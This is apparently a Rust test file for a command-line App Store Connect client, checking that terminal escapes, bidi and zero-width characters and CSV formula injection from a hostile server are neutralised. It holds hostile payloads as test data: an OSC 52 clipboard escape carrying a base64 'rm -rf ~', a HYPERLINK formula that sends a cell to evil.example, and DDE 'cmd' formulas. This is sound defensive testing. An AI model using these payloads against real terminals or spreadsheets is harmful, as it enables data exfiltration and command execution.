//! Finding 2 (terminal escapes) and finding 7 (CSV formula injection): a
//! hostile server or reviewer writes OSC 52 (clipboard), OSC 0 (title),
//! `ESC[2J`, the one-byte C1 CSI `U+009B`, bidi overrides and zero-width
//! characters into every field it controls. Whatever ascvault prints (tables,
//! lines, `--json`), stores (a `verify --mark-revoked` note) or exports
//! (`--csv`) stays inert.

use asc_standin::Fault;
use serde_json::{Value, json};

use crate::support::ExitStatus;
use crate::support::standin::{AscWorld, api_get};

/// Pocket Notes, the stand-in's app.
const APP: &str = asc_standin::seed::NOTES_APP_ID;
const REVIEWS_PATH: &str = "/v1/apps/1234567890/customerReviews";

const OSC52: &str = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}";
const OSC0: &str = "\u{1b}]0;pwned\u{7}";
const CLEAR: &str = "\u{1b}[2J";
const C1_CSI: &str = "\u{9b}31m";
const RLO: &str = "\u{202E}";
const ZWSP: &str = "\u{200B}";

/// `text` with every attack appended.
fn hostile(text: &str) -> String {
    format!("{text}{OSC52}{OSC0}{CLEAR}{C1_CSI}{RLO}{ZWSP}\u{2066}x\u{2069}\u{FEFF}")
}

/// A character that would act in a terminal or hide in it.
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(
            c,
            '\u{061C}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'
                | '\u{2066}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

#[track_caller]
fn assert_inert(what: &str, text: &str) {
    let bad: Vec<String> = text
        .chars()
        .filter(|&c| acts(c))
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    assert!(bad.is_empty(), "{what} holds {bad:?}:\n{text:?}");
}

fn app_resource(id: &str, name: &str) -> Value {
    json!({
        "type": "apps",
        "id": id,
        "attributes": { "name": name, "bundleId": "com.example.notes", "sku": "NOTES" }
    })
}

fn review_resource(id: &str, title: &str, body: &str, nickname: &str) -> Value {
    json!({
        "type": "customerReviews",
        "id": id,
        "attributes": {
            "rating": 1,
            "title": title,
            "body": body,
            "reviewerNickname": nickname,
            "createdDate": "2026-11-01T12:00:00-07:00",
            "territory": "USA"
        }
    })
}

/// The stand-in answers the next review listing with these reviews.
fn forge_reviews(w: &AscWorld, reviews: Vec<Value>) {
    w.server
        .fault(REVIEWS_PATH, Fault::json(&json!({ "data": reviews })), 1);
}

fn hostile_review() -> Value {
    review_resource(
        "R1",
        &hostile("Terrible"),
        &hostile("Paste this"),
        &hostile("mallory"),
    )
}

#[test]
fn reviews_list_table_holds_no_escapes_bidi_or_zero_width_characters() {
    let w = AscWorld::new();
    forge_reviews(&w, vec![hostile_review()]);
    let out = w
        .cmd(&["reviews", "list", "--app", APP])
        .run()
        .success()
        .stdout_has("Terrible")
        .stdout_has("mallory")
        .stdout();
    assert_inert("the table", &out);
}

#[test]
fn reviews_list_json_escapes_c1_and_invisible_characters_but_means_the_same() {
    let w = AscWorld::new();
    forge_reviews(&w, vec![hostile_review()]);
    let ok = w
        .cmd(&["reviews", "list", "--app", APP, "--json"])
        .run()
        .success();
    let text = ok.stdout();
    assert_inert("--json", &text);
    assert!(text.contains(r"\u009b"), "C1 escaped: {text}");
    assert!(text.contains(r"\u202e"), "bidi escaped: {text}");
    // A program reading the JSON still gets exactly what the reviewer wrote.
    let v = ok.json();
    assert_eq!(v[0]["title"], hostile("Terrible"));
    assert_eq!(v[0]["reviewer_nickname"], hostile("mallory"));
}

#[test]
fn reviews_show_is_inert() {
    let w = AscWorld::new();
    w.server.fault(
        "/v1/customerReviews/R1",
        Fault::json(&json!({ "data": hostile_review() })),
        1,
    );
    let out = w
        .cmd(&["reviews", "show", "R1"])
        .run()
        .success()
        .stdout_has("mallory")
        .stdout();
    assert_inert("reviews show", &out);
}

#[test]
fn reviews_report_print_refuses_an_app_id_that_is_not_a_number() {
    // The id goes into the page address that is printed, then opened, and
    // the user is told to paste: an OSC 52 there would have filled the
    // clipboard with the attacker's text.
    let w = AscWorld::new();
    let review = asc_standin::seed::review_id(0, 0);
    w.server.fault(
        &format!("/v1/apps/{APP}"),
        Fault::json(&json!({ "data": app_resource(&format!("{APP}/../../x{OSC52}{OSC0}{CLEAR}"), "Notes") })),
        1,
    );
    let out = w
        .cmd(&[
            "reviews", "report", &review, "--reason", "spam", "--app", APP, "--print",
        ])
        .run()
        .fails(ExitStatus::Failure)
        .stderr_has("App Store Connect sent an app id that is not a number")
        .stdout_lacks("appstoreconnect.apple.com");
    assert_inert("stdout", &out.stdout());
    assert_inert("stderr", &out.stderr());
}

#[test]
fn reviews_report_print_refuses_a_hostile_app_id_from_the_app_list() {
    let w = AscWorld::new();
    let review = asc_standin::seed::review_id(0, 0);
    w.server.fault(
        "/v1/apps",
        Fault::json(&json!({ "data": [app_resource(&format!("1{C1_CSI}2J{RLO}"), "Notes")] })),
        1,
    );
    let out = w
        .cmd(&["reviews", "report", &review, "--reason", "spam", "--print"])
        .run()
        .fails(ExitStatus::Failure);
    assert_inert("stdout", &out.stdout());
    assert_inert("stderr", &out.stderr());
}

#[test]
fn reviews_report_print_shows_a_hostile_review_inertly() {
    let w = AscWorld::new();
    let mut review = hostile_review();
    review["attributes"]["createdDate"] = json!(format!("{CLEAR}{OSC0}2026"));
    w.server.fault(
        "/v1/customerReviews/R1",
        Fault::json(&json!({ "data": review })),
        1,
    );
    let out = w
        .cmd(&[
            "reviews", "report", "R1", "--reason", "spam", "--app", APP, "--print",
        ])
        .run()
        .success()
        .stdout_has(&format!("apps/{APP}/"));
    assert_inert("stdout", &out.stdout());
    assert_inert("stderr", &out.stderr());
}

#[test]
fn verbose_reviews_line_sanitizes_the_app_id() {
    let w = AscWorld::new();
    w.server.fault(
        &format!("/v1/apps/{APP}"),
        Fault::json(&json!({ "data": app_resource(&format!("{APP}{OSC0}{RLO}"), "Notes") })),
        1,
    );
    // Whatever comes next (the listing under that id fails), stderr is inert.
    let out = w
        .cmd(&["-v", "reviews", "list", "--app", APP, "--max", "1"])
        .run();
    let err = out.stderr();
    assert!(err.contains(&format!("ascvault: app {APP}")), "{err}");
    assert_inert("stderr", &err);
    assert_inert("stdout", &out.stdout());
}

#[test]
fn apps_table_and_json_are_inert() {
    let w = AscWorld::new();
    let list = json!({ "data": [app_resource("42", &hostile("Notes"))] });
    w.server.fault("/v1/apps", Fault::json(&list), 2);
    let table = w
        .cmd(&["apps"])
        .run()
        .success()
        .stdout_has("Notes")
        .stdout();
    assert_inert("apps", &table);
    let ok = w.cmd(&["apps", "--json"]).run().success();
    assert_inert("apps --json", &ok.stdout());
    assert_eq!(ok.json()[0]["name"], hostile("Notes"));
}

#[test]
fn perf_table_header_with_hostile_device_names_is_inert() {
    // The header of each perf table is built from the server's device names.
    let w = AscWorld::new();
    let app = asc_standin::metrics::APP_ID;
    let path = format!("/v1/apps/{app}/perfPowerMetrics");
    let (status, body) = api_get(&w.server, &path, "application/vnd.apple.xcode-metrics+json");
    assert_eq!(status, 200);
    let body = String::from_utf8(body).unwrap();
    assert!(body.contains("\"All iPhones\""), "the seed names a device");
    let evil = serde_json::to_string(&hostile("All iPhones")).unwrap();
    let forged = body.replace("\"All iPhones\"", &evil);
    w.server.fault(
        &path,
        Fault::Answer {
            status: 200,
            headers: vec![("content-type".into(), "application/json".into())],
            body: forged.into_bytes(),
        },
        1,
    );
    let out = w
        .metrics(&["perf", "--app", app])
        .run()
        .success()
        .stdout_has("VERSION")
        .stdout();
    assert_inert("metrics perf", &out);
}

#[test]
fn verify_output_and_the_stored_note_are_inert() {
    let w = AscWorld::new();
    w.add_password_apple_rejects("old");
    let answer = json!({
        "result": {
            "Success": false,
            "ErrorCode": -20101,
            "ErrorMessage": hostile("Your password was revoked")
        }
    });
    w.server
        .fault(ascvault::asc::verify::SIGN_IN_PATH, Fault::json(&answer), 2);
    let json_out = w
        .cmd(&["verify", "--json"])
        .run()
        .fails(ExitStatus::Refused);
    assert_inert("verify --json", &json_out.stdout());
    let marked = w
        .cmd(&["verify", "--mark-revoked"])
        .run()
        .fails(ExitStatus::Refused)
        .stdout_has("Your password was revoked");
    assert_inert("verify", &marked.stdout());
    // The note lives on in the vault (and in `show`, `list`, git diffs):
    // what was stored is clean, not merely what was printed.
    let v = w.t.cmd(&["list", "--all", "--json"]).run().success().json();
    let old = v
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["label"] == "old")
        .unwrap();
    assert_eq!(old["revoked"], true);
    let note = old["note"].as_str().unwrap();
    assert!(note.contains("Your password was revoked"), "{note:?}");
    assert_inert("the stored note", note);
}

/// The CSV of `reviews list --csv`, parsed: header, then rows.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn reviews_csv_cells_cannot_start_a_formula() {
    let w = AscWorld::new();
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ];
    let mut reviews = Vec::new();
    for (i, f) in formulas.iter().enumerate() {
        let mut r = review_resource(&format!("=R{i}"), f, f, f);
        r["attributes"]["territory"] = json!(f);
        reviews.push(r);
    }
    reviews.push(review_resource("R9", "Fine", "a=b, e-mail me", "-"));
    forge_reviews(&w, reviews);
    let out = w
        .cmd(&["reviews", "list", "--app", APP, "--csv"])
        .run()
        .success()
        .stdout();
    let rows = csv_rows(&out);
    assert_eq!(rows.len(), formulas.len() + 2, "{out}");
    assert_eq!(rows[0][2], "rating");
    let text_columns = [0, 3, 4, 5, 6];
    for row in &rows[1..] {
        if row[0] == "R9" {
            assert_eq!(row[5], "Fine");
            assert_eq!(row[6], "a=b, e-mail me", "only the first character counts");
            assert_eq!(row[4], "'-", "a lone minus is a reviewer's text too");
            continue;
        }
        for &col in &text_columns {
            let cell = &row[col];
            assert!(cell.starts_with('\''), "column {col}: {cell:?}");
            assert_inert("a CSV cell", cell);
        }
        // Our own number is left alone.
        assert_eq!(row[2], "1");
    }
}
